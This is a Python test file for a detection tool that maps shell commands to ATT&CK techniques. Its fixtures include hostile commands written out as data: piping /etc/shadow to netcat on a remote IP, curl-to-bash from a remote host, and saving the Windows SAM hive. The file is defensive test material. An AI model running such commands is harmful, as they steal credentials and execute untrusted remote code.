"""The features of meaning: by name for training, by place for scoring, one definition."""

import math

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ttpline.commands.facts import Fact, Understanding
from ttpline.commands.understand import understand
from ttpline.domain.parsed import DecodedCommand, ParsedCommand
from ttpline.models._meaning_block import MeaningBlock
from ttpline.models._meaning_features import FeatureReader, meaning_features

COMMANDS = (
    "sudo cat /etc/shadow | nc 192.0.2.1 4444",
    "sh -c 'curl -s http://192.0.2.7/x | bash'",
    "reg save HKLM\\SAM C:\\Temp\\sam.hiv",
    "git commit --amend -m fixed",
    "strange-tool --flag=1 word",
    "",
)


def test_features_have_names_a_person_can_read() -> None:
    names = set(meaning_features(understand("sudo cat -n /etc/shadow")))
    assert {"p:cat", "po:cat -n", "w:sudo", "n"} <= names
    assert any(name.startswith("t:T1003") for name in names)
    assert "nofacts" in meaning_features(understand("strange-tool"))


def test_features_have_length_1_and_no_zeros() -> None:
    for command in COMMANDS:
        values = meaning_features(understand(command)).values()
        assert math.fsum(value * value for value in values) == pytest.approx(1.0)
        assert all(values)


@given(kept=st.integers(0, 2**40), texts=st.lists(st.sampled_from(COMMANDS) | st.text(max_size=20), max_size=6))
@settings(deadline=None, max_examples=60)
def test_places_and_values_are_those_of_the_names(kept: int, texts: list[str]) -> None:
    found = [understand(text) for text in texts]
    names = sorted({name for one in map(understand, COMMANDS) for name in meaning_features(one)})
    vocabulary = [name for at, name in enumerate(names) if kept >> at % 40 & 1]
    block = MeaningBlock(vocabulary, np.zeros((len(vocabulary), 2), np.float32), 1)
    rows = block.rows(found)
    for at, one in enumerate(found):
        part = slice(rows.indptr[at], rows.indptr[at + 1])
        features = meaning_features(one)
        expected = [(place, features[name]) for place, name in enumerate(vocabulary) if name in features]
        assert list(zip(rows.places[part].tolist(), rows.values[part].tolist(), strict=True)) == expected


def test_two_entries_of_one_name_are_told_apart() -> None:
    reader = FeatureReader({"u:a": 0, "m:x": 1, "m:y": 2, "t:T1": 3, "tp:T1": 4})
    first = Fact("combination", "a", (0, 1), "why", {"T1": 2}, 0, ("x",), 0)
    second = Fact("combination", "a", (0, 1), "why", {}, 0, ("y",), None)
    for _ in range(2):
        assert reader.of_fact(first).places == (0, 1, 3, 4)
        assert reader.of_fact(second).places == (0, 2)


def test_a_vote_against_counts_as_it_is_and_nothing_for_the_parent() -> None:
    against = Fact("use", "a", (0, 1), "why", {"T1003.001": -2}, 0)
    found = Understanding(DecodedCommand("a", "a"), ParsedCommand("a", ()), (against,), frozenset())
    features = FeatureReader({}).read(found)
    assert features["t:T1003.001"] == -1.0
    assert features["tp:T1003"] == 0.0
    assert "tp:T1003" not in meaning_features(found)
